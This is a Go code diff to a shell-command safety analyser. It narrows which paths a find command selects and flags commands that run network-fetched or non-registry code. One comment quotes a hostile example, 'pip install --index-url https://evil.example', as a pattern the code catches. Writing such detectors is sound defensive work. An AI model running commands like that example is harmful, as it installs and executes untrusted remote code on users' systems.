@@ -1,6 +1,7 @@
 package shield
 
 import (
+	"path"
 	"strings"
 
 	"github.com/opx-dev/opx/engine/shield/shellx"
@@ -82,7 +83,7 @@ func (m *model) listed(j int) ([]Ref, bool) {
 		cwd := m.cwdOf(j)
 		switch name {
 		case "find":
-			return findRoots(m.s, cwd, args), true
+			return findSelected(m.s, cwd, args), true
 		case "ls", "exa", "eza", "lsd", "tree", "fd", "fdfind", "du":
 			var refs []Ref
 			for _, w := range args {
@@ -212,6 +213,52 @@ func findRoots(s *Shield, cwd string, args []shellx.Word) []Ref {
 		refs = append(refs, Ref{Path: cwd, Tree: true})
 	}
 	return refs
+}
+
+// findSelected are the paths find's tests select beneath its roots: for a
+// root in the workspace with -name or -iname patterns, "ROOT/**/PATTERN"
+// (Glob; "**" is any number of segments, as in the rules' globs), else
+// the root with Tree.
+func findSelected(s *Shield, cwd string, args []shellx.Word) []Ref {
+	roots := findRoots(s, cwd, args)
+	var pats []string
+	shallow := false
+	for i := 0; i+1 < len(args); i++ {
+		switch args[i].Text {
+		case "-name", "-iname":
+			if i > 0 && (args[i-1].Text == "!" || args[i-1].Text == "-not") || args[i+1].Dynamic || strings.Contains(args[i+1].Text, "/") {
+				continue
+			}
+			pats = append(pats, args[i+1].Text)
+		case "-maxdepth":
+			shallow = args[i+1].Text == "1"
+		case "-o", "-or":
+			// An alternative without a name test selects anything.
+			if i+1 < len(args) && args[i+1].Text != "-name" && args[i+1].Text != "-iname" {
+				return roots
+			}
+		}
+	}
+	if len(pats) == 0 {
+		return roots
+	}
+	var out []Ref
+	for _, r := range roots {
+		if !s.inWorkspace(r.Path) {
+			// Outside the workspace a name test narrows little that
+			// matters: judged as the whole tree.
+			out = append(out, r)
+			continue
+		}
+		for _, p := range pats {
+			if shallow {
+				out = append(out, Ref{Path: path.Join(r.Path, p), Glob: true})
+			} else {
+				out = append(out, Ref{Path: path.Join(r.Path, "**", p), Glob: true})
+			}
+		}
+	}
+	return out
 }
 
 // substitution returns the inner text and Via kind of a word that is
@@ -367,6 +414,28 @@ func (x *call) runsFile(p string) {
 			return
 		}
 	}
+}
+
+// runsHere notes that the current command runs code from its working
+// directory (make, npm install, pip install .): a tree a network tool
+// fetched earlier in the line is remote code.
+func (x *call) runsHere() {
+	if x.cwd == "" {
+		return
+	}
+	for _, f := range x.m.fetched {
+		if f.tree && (x.cwd == f.path || strings.HasPrefix(x.cwd, f.path+"/")) {
+			x.m.f.Execs = append(x.m.f.Execs, Exec{Runner: x.name, From: f.by, Remote: true, Line: x.c.Line})
+			return
+		}
+	}
+}
+
+// remoteCode notes that the current command installs and runs code
+// from host, which is not its registry's (pip install --index-url
+// https://evil.example, pip install git+https://...).
+func (x *call) remoteCode(host string) {
+	x.m.f.Execs = append(x.m.f.Execs, Exec{Runner: x.name, From: host, Remote: true, Line: x.c.Line})
 }
 
 type fetchedPath struct {
